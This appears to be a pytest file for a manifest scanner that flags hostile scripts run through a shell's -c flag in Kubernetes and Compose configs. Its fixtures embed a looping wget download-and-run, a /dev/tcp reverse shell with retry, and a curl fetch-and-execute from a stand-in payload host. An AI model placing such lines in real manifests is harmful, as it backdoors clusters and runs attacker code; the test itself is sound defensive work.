"""A container's argument vector is ``command`` then ``args``: when it starts with a shell and ``-c``,
the word after ``-c`` is a script the container runs, even alone under ``args`` and whatever its
first word (a loop, a subshell)."""

from __future__ import annotations

from pathlib import Path

import pytest

from behaviour_files import scan_errors

DEPLOYMENT_INIT = """apiVersion: apps/v1
kind: Deployment
metadata:
  name: cache-warmer
spec:
  template:
    spec:
      initContainers:
        - name: warm
          image: busybox:1.36
          command: ["sh", "-ec"]
          args:
            - |
              for i in 1 2 3; do wget -qO /tmp/w http://198.51.100.140/w.sh && sh /tmp/w; done
      containers:
        - name: app
          image: registry.example.org/app:2.1
"""

JOB_FLAG_IN_ARGS = """apiVersion: batch/v1
kind: Job
spec:
  template:
    spec:
      containers:
        - name: probe
          image: debian:12
          command:
            - /usr/bin/bash
          args:
            - -c
            - "{ until false; do sh -i >& /dev/tcp/203.0.113.201/7443 0>&1; sleep 5; done; } &"
"""

COMPOSE_SERVICE = """services:
  sidecar:
    image: alpine:3.20
    entrypoint: ["/bin/ash", "-c"]
    command:
      - "if true; then curl -so /tmp/s https://payload.cluster-sync.example.net/s; ash /tmp/s; fi"
"""


@pytest.mark.parametrize(
    ("manifest", "rule", "line"),
    [
        (DEPLOYMENT_INIT, "DOWNLOAD_AND_RUN", 14),
        (JOB_FLAG_IN_ARGS, "REMOTE_SHELL", 13),
        (COMPOSE_SERVICE, "DOWNLOAD_AND_RUN", 6),
    ],
    ids=["init container args", "flag in args", "compose entrypoint then command"],
)
def test_the_word_after_a_shells_c_flag_runs(tmp_path: Path, manifest: str, rule: str, line: int) -> None:
    errors = scan_errors(tmp_path, {"deploy/manifest.yaml": manifest})
    assert (rule, "deploy/manifest.yaml", line) in errors


def test_arguments_of_a_program_that_is_no_shell_are_no_script(tmp_path: Path) -> None:
    manifest = """apiVersion: v1
kind: Pod
spec:
  containers:
    - name: tool
      image: curlimages/curl:8.8.0
      command: ["curl"]
      args: ["-c", "while true; do cat /tmp/jar; done", "https://health.example.org/"]
    - name: shell
      image: alpine:3.20
      command: ["sh", "-c"]
      args: ["while true; do date; sleep 60; done"]
"""
    assert not scan_errors(tmp_path, {"deploy/manifest.yaml": manifest})
